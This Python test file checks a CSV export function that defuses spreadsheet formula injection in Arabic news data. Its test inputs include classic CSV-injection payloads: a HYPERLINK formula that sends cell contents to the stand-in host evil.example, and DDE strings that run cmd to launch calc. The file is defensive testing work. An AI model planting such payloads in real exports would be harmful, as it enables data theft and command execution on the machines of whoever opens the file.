"""CSV downloads: UTF-8 with a byte-order mark (Excel shows the Arabic), no cell a spreadsheet evaluates.

OWASP (CSV Injection) and ASVS 1.2.10: a cell must not start with ``= + - @``, a tab or a carriage
return; prefixing it with ``'`` makes the spreadsheet read it as text. Numbers in a number column
are written as numbers: a spreadsheet never reads ``-1`` or ``-1.5`` as a formula, and they are not
text from an article. A *string* ``"-1"`` is text like any other and is prefixed (a few harmless
false alarms rather than a rule about which strings look numeric: ``-1+cmd|' /C calc'!A0`` starts
like a number too).
"""

from __future__ import annotations

import io
import math

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.briefing.csv_export import csv_bytes, neutralise_cell

BOM = b"\xef\xbb\xbf"

NEUTRALISED = [
    # the classic payloads, with an Arabic decoy
    ('=HYPERLINK("http://evil.example/?"&A1, "روسيا")', '\'=HYPERLINK("http://evil.example/?"&A1, "روسيا")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # SaudiNewsNet 2015-07-21 (aawsat): an interview answer starts with a dash
    ("- لا.. ليس بالضرورة.", "'- لا.. ليس بالضرورة."),
    # a tweet quoted in an article
    ("@SaudiNews50 عاجل: اجتماع روسي تركي", "'@SaudiNews50 عاجل: اجتماع روسي تركي"),
    # a phone number and a negative number written as text: text, so prefixed
    ("+966 11 123 4567", "'+966 11 123 4567"),
    ("-1", "'-1"),
]

UNCHANGED = [
    "روسيا وتركيا تتفقان على تنسيق في إدلب",
    "2020-12-30",  # a date starts with a digit
    "a=b",  # the formula sign elsewhere than first
    " =1+1",  # a space first: not in the list, and not a formula in Excel or LibreOffice
    "'=1+1",  # already neutralised: not prefixed twice
    "",
    -1,  # numbers and missing values are not text
    -1.5,
    None,
]


@pytest.mark.parametrize("cell, expected", NEUTRALISED)
def test_a_cell_starting_like_a_formula_is_prefixed(cell, expected):
    assert neutralise_cell(cell) == expected


@pytest.mark.parametrize("cell", UNCHANGED)
def test_other_cells_are_left_as_they_are(cell):
    assert neutralise_cell(cell) is cell


def test_nan_is_left_as_it_is():
    assert math.isnan(neutralise_cell(float("nan")))


# --- the file ----------------------------------------------------------------------------------


def test_file_starts_with_a_bom_and_keeps_the_arabic():
    table = pd.DataFrame({"doc_id": ["000"], "text": ["التقارب الروسي التركي"], "published": ["2020-12-30"]})
    data = csv_bytes(table)
    assert data.startswith(BOM) and not data[3:].startswith(BOM)
    assert data[3:].decode("utf-8") == "doc_id,text,published\r\n000,التقارب الروسي التركي,2020-12-30\r\n"


def test_cells_and_headers_are_neutralised_numbers_and_missing_cells_are_not():
    table = pd.DataFrame(
        {
            "=title": ["- لا.. ليس بالضرورة.", "روسيا"],
            "@count": [-1, 3],  # a number column: -1 is a number
            "weight": [-0.25, np.nan],
            "as_text": pd.Series(["-1", None], dtype=object),  # the same -1, as text
            "source": pd.Series(["+966 11 123 4567", np.nan], dtype="str"),
        }
    )
    text = csv_bytes(table).decode("utf-8-sig")
    assert text == (
        "'=title,'@count,weight,as_text,source\r\n"
        "'- لا.. ليس بالضرورة.,-1,-0.25,'-1,'+966 11 123 4567\r\n"
        "روسيا,3,,,\r\n"
    )
    assert (
        table.columns[0] == "=title" and table.iloc[0, 0] == "- لا.. ليس بالضرورة."
    )  # the caller's table is untouched


def test_rows_end_with_crlf_and_a_cell_with_a_line_break_is_quoted():
    text = csv_bytes(pd.DataFrame({"cell": ["\t=1+1", "\r=1+1", "x\r=1+1", "سطر\nوسطر"]})).decode("utf-8-sig")
    # unquoted, "x\r=1+1" would read as the row "x" and a new row whose cell is the formula "=1+1"
    assert text == 'cell\r\n\'\t=1+1\r\n"\'\r=1+1"\r\n"x\r=1+1"\r\n"سطر\nوسطر"\r\n'


@pytest.mark.parametrize(
    "dtype",
    ["object", "str", "string", "category"],
)
def test_every_text_dtype_is_neutralised(dtype):
    table = pd.DataFrame({"event_type": pd.Series(["=1+1", "statement"], dtype=dtype)})
    assert csv_bytes(table).decode("utf-8-sig") == "event_type\r\n'=1+1\r\nstatement\r\n"


def test_list_cells_are_joined_and_then_neutralised():
    # an event's actors are a list (analysis/schema.py); joined by ";" as in the build's CSV files
    table = pd.DataFrame({"actors": [["russia", "turkey"], ["=1+1", "usa"], []]})
    # (an empty list is an empty cell, quoted because it is the row's only one)
    assert csv_bytes(table).decode("utf-8-sig") == 'actors\r\nrussia;turkey\r\n\'=1+1;usa\r\n""\r\n'


def test_an_empty_table_is_its_header():
    assert csv_bytes(pd.DataFrame(columns=["doc_id", "=x"])) == BOM + b"doc_id,'=x\r\n"


# --- whatever the text, no cell of the file starts like a formula --------------------------------

_CELL = st.text(alphabet=st.sampled_from("=+-@\t\r\n ,;\"'روسيا 0123456789abc"), max_size=12)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.tuples(_CELL, _CELL), min_size=1, max_size=5),
    st.lists(_CELL.filter(bool), min_size=2, max_size=2, unique=True),
)
def test_no_cell_read_back_starts_like_a_formula(rows, header):
    table = pd.DataFrame(rows, columns=header)
    data = csv_bytes(table)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    cells = [*back.columns, *back.to_numpy().ravel().tolist()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert list(back.columns) == [neutralise_cell(c) for c in table.columns]
    assert back.to_numpy().tolist() == [[neutralise_cell(c) for c in row] for row in table.to_numpy().tolist()]
